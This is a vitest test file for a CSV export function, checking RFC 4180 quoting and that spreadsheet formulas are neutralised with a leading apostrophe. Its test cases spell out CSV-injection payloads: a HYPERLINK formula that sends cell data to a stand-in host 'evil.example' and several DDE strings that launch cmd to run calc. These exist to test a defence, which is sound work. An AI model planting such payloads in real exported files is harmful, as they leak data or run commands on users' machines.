import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { PlainValue } from '../column.ts';
import { toCsv } from './to-csv.ts';

/** Reads RFC 4180 by its grammar and nothing more: what a strict reader makes of a file, once it is decoded. */
function readCsv(file: string): string[][] {
  const text = new TextDecoder().decode(new TextEncoder().encode(file));
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  const lines: string[][] = [[]];
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const [, quoted, bare = '', end] = cell.exec(text) ?? [];
    if (end === undefined) {
      throw new Error(`no cell of RFC 4180 at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`);
    }
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
    if (end === '\r\n') {
      lines.push([]);
    }
  }
  return lines.slice(0, -1);
}

const columns = ['a', 'b', 'c'].map((id, at) => ({
  id,
  header: id.toUpperCase(),
  plain: (row: readonly PlainValue[]) => row[at] ?? null,
}));
const write = (...rows: PlainValue[][]) => toCsv(columns, rows);
const cellOf = (value: PlainValue) => readCsv(write([value, 'b', 'c']))[1]?.[0];

describe('toCsv', () => {
  it('writes headers, lines that end as RFC 4180 says, and quotes where they are needed', () => {
    expect(write(['plain', 'a,b', 'say "hi"'], ['two\nlines', null, 7])).toBe(
      '\uFEFFA,B,C\r\nplain,"a,b","say ""hi"""\r\n"two\nlines",,7\r\n',
    );
    expect(write()).toBe('\uFEFFA,B,C\r\n');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"open")'],
    ["+1+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+9)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['＝1+1'],
    ['=1;=1'],
  ])('leaves no formula to a spreadsheet: %j', (formula) => {
    expect(cellOf(formula)).toBe(`'${formula}`);
    expect(cellOf([formula, 'x'])).toBe(`'${formula}; x`);
  });

  it.each<[PlainValue, string]>([
    [-3, '-3'],
    [Number.NaN, ''],
    [true, 'true'],
    [null, ''],
    ['', ''],
    [' padded ', ' padded '],
    [new Date(Date.UTC(2026, 10, 21, 9, 5, 1, 20)), '2026-11-21T09:05:01.020Z'],
    [new Date(Number.NaN), ''],
    [['linux', 'amd64'], 'linux; amd64'],
    [[], ''],
    ['Größe: 8 GiB, 模型', 'Größe: 8 GiB, 模型'],
    ['a\u2028b', 'a\u2028b'],
  ])('%j is %j', (value, text) => {
    expect(cellOf(value)).toBe(text);
  });

  it('quotes what would end a cell where another separator is usual', () => {
    expect(write(['x;=1', 'y\t=1', 'z'])).toContain('"x;=1","y\t=1",z');
  });

  it('any text comes back as it was, but for the apostrophe before formulas', () => {
    const hostile = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', '=', '-', ';', ' ', 'x', "'") }),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(hostile, hostile, hostile), { maxLength: 20 }), (rows) => {
        const [head, ...lines] = readCsv(write(...rows));
        expect(head).toEqual(['A', 'B', 'C']);
        expect(lines.map((line) => line.map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, '')))).toEqual(
          rows.map((row) => row.map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, ''))),
        );
        for (const cell of lines.flat()) {
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
      }),
    );
  });
});
